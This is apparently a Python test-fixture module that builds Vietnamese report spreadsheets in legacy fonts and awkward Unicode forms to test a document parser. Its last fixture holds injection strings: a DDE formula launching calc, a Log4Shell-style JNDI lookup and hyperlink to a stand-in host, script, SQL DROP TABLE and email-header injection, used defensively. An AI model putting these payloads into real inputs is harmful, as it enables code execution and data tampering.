"""How the text is written: old fonts, decomposed letters, what does not show."""

import unicodedata

import writers
from model import NAME, Cell, Sheet, alone, case, document, ordinary

TCVN3 = dict(zip("ĂÂÊÔƠƯĐăâêôơưđàảãáạằẳẵắặầẩẫấậèẻẽéẹềểễếệìỉĩíịòỏõóọồổỗốộờởỡớợùủũúụừửữứựỳỷỹýỵ", map(chr, [
    *range(0xA1, 0xAF), *range(0xB5, 0xBA), *range(0xBB, 0xBF), 0xC6, *range(0xC7, 0xCC), 0xCC, *range(0xCE, 0xD2), *range(0xD2, 0xD7),
    0xD7, 0xD8, *range(0xDC, 0xDF), 0xDF, *range(0xE1, 0xE5), *range(0xE5, 0xEA), *range(0xEA, 0xEF), 0xEF, *range(0xF1, 0xF5),
    *range(0xF5, 0xFA), *range(0xFA, 0xFF)])))


def tcvn3(text):
    """The text as a TCVN3 keyboard stores it; capitals with a tone become small
    ones, which the font then shows as they are."""
    return "".join(TCVN3.get(c) or TCVN3.get(c.lower(), c) for c in text)


MARK = {"": "", "\u0301": "ù", "\u0300": "ø", "\u0309": "û", "\u0303": "õ", "\u0323": "ï"}
VNI = {"đ": "ñ", "í": "í", "ì": "ì", "ỉ": "æ", "ĩ": "ó", "ị": "ò", "ỵ": "î"}
for vowel, stem, marks in [("aeouy", None, MARK), ("ơ", "ô", MARK), ("ư", "ö", MARK),
                           ("âêô", None, {"": "â", "\u0301": "á", "\u0300": "à", "\u0309": "å", "\u0303": "ã", "\u0323": "ä"}),
                           ("ă", "a", {"": "ê", "\u0301": "é", "\u0300": "è", "\u0309": "ú", "\u0303": "ü", "\u0323": "ë"})]:
    for v in vowel:
        base = stem or unicodedata.normalize("NFD", v)[0]
        for tone, mark in marks.items():
            VNI.setdefault(unicodedata.normalize("NFC", v + tone), base + mark)
VNI.update({k.upper(): v.upper() for k, v in list(VNI.items())})


def vni(text):
    return "".join(VNI.get(c, c) for c in text)


def _typed(encode, font):
    """The ordinary report typed otherwise; what it says stays the same."""
    s = ordinary()
    s.rows = [[encode(v) if isinstance(v, str) else v for v in row] for row in s.rows]
    s.font = font
    return s


@case("old-font-tcvn3.xlsx", "typed in TCVN3 in the font .VnTime", "openpyxl")
def _():
    s = _typed(tcvn3, ".VnTime")
    return [s], [document(s)]


@case("old-font-capitals.xlsx", "TCVN3 in .VnTimeH, which shows small letters as capitals", "XlsxWriter")
def _():
    s = Sheet().top(("UBND TỈNH ĐẮK NÔNG", "SỞ XÂY DỰNG"), "45/BC-SXD").head()
    s.rows[1][0] = Cell(tcvn3("sở xây dựng"), font=".VnTimeH")
    s.row([1, "1.3.4", NAME["1.3.4"], Cell(tcvn3("đã đăng 12 tin, bài"), font=".VnTimeH"), Cell(tcvn3("Đang thực hiện"), font=".VnTime"), 20, None],
          "1.3.4 in_progress 20 -", text="ĐÃ ĐĂNG 12 TIN, BÀI")
    return alone(s, agency="sxd")


@case("old-font-mixed.xls", "a Unicode form whose answers were typed in TCVN3", "xlwt")
def _():
    s = ordinary("Bao cao")
    for row in s.rows[7:]:
        row[3:5] = [Cell(tcvn3(v), font=".VnArial") for v in row[3:5]]
    return alone(s)


@case("word-old-font.docx", "a Word table typed in VNI", "python-docx")
def _():
    s = ordinary()

    def fill(d):
        for row in s.rows[:6]:
            for v in row:
                if v:
                    d.add_paragraph().add_run(vni(v)).font.name = "VNI-Times"
        table = d.add_table(rows=0, cols=7)
        for row in s.rows[6:]:
            for c, v in zip(table.add_row().cells, row):
                text = "" if v is None else str(v).replace(".", ",") if isinstance(v, float) else str(v)
                c.paragraphs[0].add_run(vni(text)).font.name = "VNI-Times"
    made = writers.by_docx(fill)
    for i, e in enumerate(s.entries):
        e["cell"] = "B%d" % (10 + i)
    return made, [document(s)]


@case("old-font-tcvn3.xls", "typed in TCVN3 in the font .VnTime", "xlwt")
def _():
    s = _typed(tcvn3, ".VnTime")
    s.name = "Bao cao"
    return [s], [document(s)]


@case("old-font-vni.xls", "typed in VNI in the font VNI-Times", "xlwt")
def _():
    s = _typed(vni, "VNI-Times")
    s.name = "Bao cao"
    return [s], [document(s)]


@case("old-font-not-named.csv", "TCVN3 saved as CSV: no font tells it", "by hand, comma")
def _():
    s = _typed(tcvn3, None)
    return [s], [document(s, findings=["old-font note"])]


@case("old-font-arial.xlsx", "VNI pasted into Arial: no font tells it", "XlsxWriter")
def _():
    s = _typed(vni, "Arial")
    return [s], [document(s, findings=["old-font note"])]


@case("decomposed.xlsx", "every letter apart from its marks, as a Mac or a PDF gives it", "SheetJS")
def _():
    s = _typed(lambda v: unicodedata.normalize("NFD", v), None)
    return alone(s)


@case("tones-new-style.ods", "hoà, thuỷ, uỷ: the tones where the new style puts them", "LibreOffice .ods")
def _():
    s = Sheet().top(("UỶ BAN NHÂN DÂN TỈNH ĐẮK NÔNG", "SỞ VĂN HOÁ, THỂ THAO VÀ DU LỊCH"), "45/BC-SVHTTDL").head()
    s.row([1, "1.3.4", NAME["1.3.4"], "Đã đăng tin về văn hoá", "Đang thực hiện", 20, None], "1.3.4 in_progress 20 -")
    s.row([2, None, NAME["7.1.3"].replace("Ủy", "Uỷ"), "Đã công khai", "Đang thực hiện", 30, None], "7.1.3 in_progress 30 -")
    return alone(s, agency="svhttdl")


@case("eth-for-d.xlsx", "Ð and ð, the Icelandic letters, for Đ and đ", "SheetJS")
def _():
    s = _typed(lambda v: v.replace("Đ", "Ð").replace("đ", "ð"), None)
    return alone(s)


@case("zero-width.xlsx", "zero-width and no-break spaces, soft hyphens and byte order marks among the letters", "ExcelJS")
def _():
    s = _typed(lambda v: v.replace(" ", "\u00a0\u200b").replace("1.1", "\ufeff1.\u200b1"), None)
    s.rows[4][0] = "Kết quả thực hiện Kế hoạch cải cách hành chính quý\u00a0I\u200b năm\u202f2018"
    for e in s.entries:
        e["text"] = e["text"].replace("\u00a0", " ")
    return alone(s)


@case("without-marks.xlsx", "capitals without marks throughout", "Perl Excel::Writer::XLSX")
def _():
    def bare(v):
        v = unicodedata.normalize("NFD", v).replace("đ", "d").replace("Đ", "D")
        return "".join(c for c in v if not unicodedata.combining(c)).upper()
    s = _typed(bare, None)
    for e in s.entries:
        e["text"] = bare(e["text"])
    return alone(s)


@case("text-of-32767.xlsx", "a cell as full as Excel allows, kept whole", "openpyxl")
def _():
    s = ordinary()
    text = ("Đã tổ chức Hội nghị. " * 2000)[:32767 - 4] + "Hết."
    s.rows[7][3] = text
    s.entries[0]["text"] = text
    return alone(s)


@case("emoji-and-cjk.xlsx", "emoji, Chinese, letters beyond the base plane, a right-to-left override", "ExcelJS")
def _():
    s = ordinary()
    s.rows[7][3] = "Đã họp 👍🏽 𠀋 会议 \u202ehnàht nàoH\u202c"
    s.entries[0]["text"] = "Đã họp 👍🏽 𠀋 会议 hnàht nàoH"
    return alone(s)


def _harmful():
    s = Sheet().top().head()
    for code, text in [("1.1.1", '=HYPERLINK("http://vi-du.example","Bấm vào đây")'), ("1.1.3", "+84 261 000 111"), ("1.3.3", "@SUM(1+1)*cmd|' /C calc'!A0"),
                       ("1.4.1", "<script>alert('Đã họp')</script> & <b>xong</b>"), ("1.5.1", "'); DROP TABLE submission; --"),
                       ("4.1.1", "{{.Secret}} ${jndi:ldap://vi-du.example} {got}"), ("4.2.1", "Đã họp\nBcc: tat-ca@vi-du.example\nSubject: Khác"),
                       ("5.2.1", "-Đã thi tuyển\n-Đã bổ nhiệm")]:
        s.row([None, code, NAME[code], text, "Đang thực hiện", 20, None], code + " in_progress 20 -")
    return s


@case("text-that-harms.xlsx", "formulas, HTML, SQL, templates and header lines as text: kept, and harmless", "XlsxWriter")
def _():
    return alone(_harmful())


@case("text-that-harms.csv", "the same as CSV, which a spreadsheet would take for formulas", "by hand, comma")
def _():
    return alone(_harmful())
